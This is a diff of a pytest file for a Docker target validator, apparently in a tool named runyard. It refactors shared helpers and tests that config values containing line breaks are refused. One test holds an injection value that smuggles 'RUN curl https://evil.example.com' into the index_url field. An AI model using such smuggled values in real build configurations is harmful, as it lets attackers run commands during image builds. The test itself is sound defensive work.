@@ -5,43 +5,27 @@ file, line and field) and again where the Dockerfile is written."""
 
 from __future__ import annotations
 
-import textwrap
-from pathlib import Path
-
 import pytest
 
 from runyard.core import envs
-from runyard.core.config import ConfigError, init_project, load_target, validate_document
+from runyard.core.config import load_target, validate_document
 from runyard.core.errors import UsageError
 from runyard.core.project import Project
 from runyard.targets import docker as dockert
-
-
-@pytest.fixture
-def project(tmp_path: Path) -> Project:
-    proj, _ = init_project(tmp_path / "proj")
-    return proj
-
-
-def _target_error(project: Project, text: str) -> ConfigError:
-    path = project.targets_dir / "dock.yml"
-    path.write_text(textwrap.dedent(text), encoding="utf-8")
-    with pytest.raises(ConfigError) as info:
-        load_target(project, "dock")
-    assert info.value.file == path
-    return info.value
+from tests.helpers import target_error
 
 
 def test_an_index_url_with_a_line_break_is_refused_with_its_file_line_and_field(
     project: Project,
 ) -> None:
-    err = _target_error(
+    err = target_error(
         project,
         """\
         type: docker
         base_image: python:3.11-slim
         index_url: "https://mirror.example.com/simple\\nRUN curl https://evil.example.com"
         """,
+        "dock",
     )
     assert (err.field, err.line) == ("index_url", 3)
     assert str(err).startswith(".runyard/targets/dock.yml:3:")
@@ -50,7 +34,7 @@ def test_an_index_url_with_a_line_break_is_refused_with_its_file_line_and_field(
 
 
 def test_a_trailing_line_break_from_a_block_scalar_is_refused_too(project: Project) -> None:
-    err = _target_error(
+    err = target_error(
         project,
         """\
         type: docker
@@ -58,6 +42,7 @@ def test_a_trailing_line_break_from_a_block_scalar_is_refused_too(project: Proje
         python: |
           python3
         """,
+        "dock",
     )
     assert (err.field, err.line) == ("python", 3)
     assert "line break" in str(err)
